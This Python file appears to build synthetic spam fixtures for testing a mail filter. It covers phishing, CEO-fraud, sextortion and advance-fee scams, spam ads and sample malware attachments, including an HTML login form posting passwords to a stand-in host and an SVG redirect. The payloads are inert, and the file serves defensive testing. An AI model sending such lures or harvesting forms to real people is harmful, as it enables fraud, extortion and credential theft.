"""Spam of today, invented: phish, fraud, advertising, malware."""
import build
from build import b64_page as hidden_page, html_mail, page, plain, with_file

SPAM = []


def spam(name, message):
    SPAM.append((name, message))


def phish(name, sender, subject, text, link, button="Verify now", **more):
    body = page(subject, f'<p>{text}</p><p><a href="{link}" style="background:#003087;color:#fff;padding:12px">{button}</a></p>')
    spam(name, html_mail(sender, subject, body, dkim=False, **more))


phish("phish paypal", "PayPal Service <support@mailer77.example>", "Your account has been limited", "Dear customer,<br>we noticed unusual activity. Your account has been limited. Verify your identity within 24 hours or it will be suspended.", "http://paypal.com.secure-login.example/verify")
phish("phish microsoft", "Microsoft 365 <admin@notice.example>", "Action required: your password expires today", "Your password expires today. Keep your current password to avoid losing access to your mailbox.", "https://login-microsoft0nline.example/keep?e=robin@reader.example", "Keep same password")
phish("phish dhl", "DHL Express <info@delivery4.example>", "Your package could not be delivered", "Your package is on hold. Pay the customs fee of 1.99 EUR to release it.", "https://dhl-tracking.example/pay", "Pay now")
phish("phish netflix", "Netflix <billing@streams.example>", "Payment declined: your membership is on hold", "We could not process your payment. Update your payment details within 48 hours.", "http://203.0.113.77/netflix/update", "Update account")
phish("phish apple", "Аpple Support <id@services.example>", "Your Apple ID has been locked", "For your security your Apple ID has been locked. Unlock your account now.", "http://xn--80ak6aa92e.com/unlock", "Unlock")
phish("phish mailbox quota", "Mail Administrator <admin@quota.example>", "robin@reader.example: mailbox storage is full", "Your mailbox is 98% full. Incoming messages will be rejected. Upgrade your storage now, it is free.", "https://storage-upgrade.web.app/?u=robin@reader.example", "Upgrade quota")
phish("phish docusign", "DocuSign <dse@signers.example>", "Please review and sign: Payment agreement", "You have received a document to review and sign.", "https://bit.ly/3xYzAbC", "Review document")
phish("phish bank text link", "Chase <alerts@chase-alerts.example>", "Unusual sign-in attempt", "Please confirm your identity: ", "http://chase.com@198.51.100.9/login", "https://www.chase.com/login")
phish("phish ipfs", "Webmail <it@helpdesk.example>", "Verify your email account", "Your account will be deactivated within 24 hours. Verify your email account to continue.", "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco")
phish("phish amazon", "Amazon.com <order@amzn-update.example>", "Your order of iPhone 15 Pro (1,299.00 USD)", "If you did not place this order call us at once or cancel it here.", "https://amaz0n.com/cancel", "Cancel order")


def fraud(name, sender, subject, text, **more):
    spam(name, plain(sender, subject, text, dkim=False, **more))


fraud("bec gift cards", "Robin Winter (CEO) <office.mail77@gmail.com>", "Quick task", "Are you available? I am in a meeting and need you to get some gift cards for clients. Keep this confidential and send me a text at your cell number.\n", fields={"Reply-To": "ceo.private@proton.me"})
fraud("bec wire", "Managing Director <director@gmail.com>", "Urgent wire transfer", "I need you to process an urgent wire transfer today. Let me know when you can and I will send the bank details. I am in a meeting, do not call.\n", fields={"Reply-To": "director.office@outlook.com"})
fraud("bec payroll", "Sam Reed <sam.reed1982@gmail.com>", "Direct deposit change", "Hi,\nI changed my bank and need to update my direct deposit information before the next payroll. What do you need from me?\n", fields={"Reply-To": "sam.reed@proton.me"})
fraud("bec bank details", "Accounts <accounts@supp1ier.example>", "Change of bank details", "Please note our bank details have changed. Kindly make all outstanding payments to the new account below and confirm.\n", fields={"Reply-To": "accounts@gmail.com"})
fraud("sextortion", "hacker <x@anon.example>", "I have full control of your device", "Hello!\nI am a hacker and I have access to your operating system. I recorded you through your webcam while you were watching adult videos.\nSend 1200 USD in Bitcoin to this wallet: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 48 hours, or I send the video to all your contacts.\n")
fraud("sextortion own address", "robin@reader.example", "Payment for your privacy", "I hacked your account and infected your device with a trojan. You have 50 hours to transfer $950 in bitcoin: 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2\nAfter the payment I delete the video.\n", envelope="x@anon.example")
fraud("lottery", "Lottery Board <winner@lotto.example>", "Congratulations! You have won", "Congratulations! Your email address has won the sum of $2,500,000.00 in the international lottery. To claim your prize contact our claims agent with your full name, address and telephone number.\n", fields={"Reply-To": "claims.agent@gmail.com"})
fraud("inheritance", "Barrister John <barrister@chambers.example>", "Confidential business proposal", "Dear friend,\nI am a barrister to a late client who died in a plane crash with no next of kin and left US$15.5 million in the bank. I seek your consent to present you as the beneficiary. We share 50/50. Please treat this as strictly confidential.\n", fields={"Reply-To": "barrister.john@yahoo.com"})
fraud("donation", "Mrs Maria <maria@cancer.example>", "Greetings in the name of God", "Dear beloved,\nI am a widow suffering from cancer and want to donate 5.8 million dollars to charity through you. Reply for more details. God bless you.\n", fields={"Reply-To": "mrs.maria@gmail.com"})
fraud("atm card", "United Nations <un@compensation.example>", "Your compensation payment", "Attention beneficiary,\nyour compensation fund of USD 850,000 has been approved and loaded on an ATM card. Send your full name, address, phone number and a delivery fee of $85.\n", fields={"Reply-To": "un.payment@gmail.com"})
fraud("loan", "Loan Office <loans@fastcash.example>", "Do you need a loan?", "Do you need an urgent loan? We offer loans at 2% interest rate without collateral, from $5,000 to $10 million. Apply now with your name, amount needed and phone number.\n", fields={"Reply-To": "loan.office@gmail.com"})
fraud("seo", "Emma <emma.seo@gmail.com>", "Re: your website", "Hi,\nI was on your website and found errors that keep it from ranking. We offer SEO services and guarantee the first page of Google. Can I send you a quote and price list?\n")
fraud("web design", "Priya <priya.webdesign@outlook.com>", "Website redesign", "Hello,\nWe are a leading web design and development company. We can redesign your website at an affordable price. May I send you our portfolio and price list?\n")
fraud("guest post", "Mark <mark.links@gmail.com>", "Guest post and backlinks", "Hello, I sell guest posts and high DA backlinks on 2000 sites. Boost your Google ranking. Interested? Reply for the list and prices.\n")
fraud("crypto", "Elon Trade <vip@trade.example>", "Make $5,000 a day with Bitcoin", "Make $5,000 per day from home with our automated Bitcoin trading robot! 100% guaranteed profit, no risk. Register now: http://btc-profit.xyz/r?id=1\n")
fraud("crypto wallet", "MetaMask <support@wallet.example>", "Your wallet will be suspended", "Your MetaMask wallet will be suspended. Verify your wallet with your 12-word recovery phrase now: http://metamask-verify.top/restore\n")
fraud("airdrop", "Airdrop <claim@coin.example>", "Claim your free 2,000 USDT airdrop", "You are eligible for the USDT airdrop. Connect your wallet and claim now before it expires: http://claim-usdt.xyz/\n")
fraud("pills", "Pharmacy <rx@meds.example>", "Cheap Viagra and Cialis - no prescription", "Buy Viagra, Cialis and Xanax online. No prescription required. 80% off, discreet shipping: http://cheap-rx.top/buy\n")
fraud("replica", "Watches <sale@luxury.example>", "Replica watches 90% off", "Rolex replica watches, 90% OFF today only! Free shipping worldwide. Order now: http://replica-rolex.top/\n")
fraud("casino", "Casino <bonus@casino.example>", "500% bonus and 200 free spins", "Claim your 500% welcome bonus and 200 free spins now! No deposit required. Play now: http://luckyspin.top/?b=500\n")
fraud("dating", "Natasha <natasha@girls.example>", "Hi sweetie, I saw your profile", "Hello dear, I am a lonely single girl looking for a man. See my hot photos here: http://hotgirls.top/natasha kisses\n")
fraud("weight loss", "Keto <keto@slim.example>", "Lose 30 pounds in 30 days", "Lose 30 pounds in 30 days with this weird trick doctors hate! 100% natural, money back guarantee. Click here: http://keto-slim.top/\n")
fraud("russian ad", "Бизнес <info@reklama.example>", "Email рассылки по базам", "Рассылка вашей рекламы по базам организаций. Гарантия результата. Заказ по телефону или на сайте http://rassylka.top/\n")
fraud("refund scam", "Norton LifeLock <billing.9921@gmail.com>", "Invoice #NRT-88213: your subscription was renewed", "Dear customer,\nyour Norton subscription has been renewed for $399.99 and will be charged today. If you did not authorize this charge, call +1 (888) 555-0142 within 24 hours for a refund.\n")

spam("malware double extension", with_file("Accounting <bill@vendor9.example>", "Overdue invoice", "Dear customer,\nplease see the attached invoice and pay at once.\n", "Invoice_8821.pdf.exe", "application/octet-stream", b"MZ\x90\0" + bytes(300), dkim=False))
spam("malware zip of js", with_file("Scanner <scan@copier.example>", "Scanned document", "Document attached.\n", "Scan_0012.zip", "application/zip", build.zipped(("Scan_0012.pdf.js", "WScript.CreateObject('x')")), dkim=False))
spam("malware iso", with_file("Sales <sales@trade8.example>", "RE: Purchase Order 44521", "Please find attached our purchase order and confirm.\n", "PO_44521.iso", "application/octet-stream", bytes(32768) + b"\x01CD001\x01" + bytes(4096), dkim=False))
spam("html attachment", with_file("Voicemail <vm@pbx.example>", "New voice message from +1 555 0100", "You have a new voice message. Open the attachment to listen.\n", "VM_0100.html", "text/html",
     page("Sign in", "<form action='http://collect.top/p.php' method=post><input name=e value=robin@reader.example><input type=password name=p></form><script>eval(atob('YWxlcnQoMSk='))</script>").encode(), dkim=False))
spam("svg attachment", with_file("HR <hr@staff.example>", "Salary adjustment", "Please review the attached document.\n", "Salary.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location='http://collect.top/?e=robin'</script></svg>", dkim=False))
spam("hidden text", hidden_page("Deals <win@deals.example>", "Congratulations, you won a gift card", "You have been selected! Claim your $500 gift card now.", "http://giftcard-claim.top/c"))
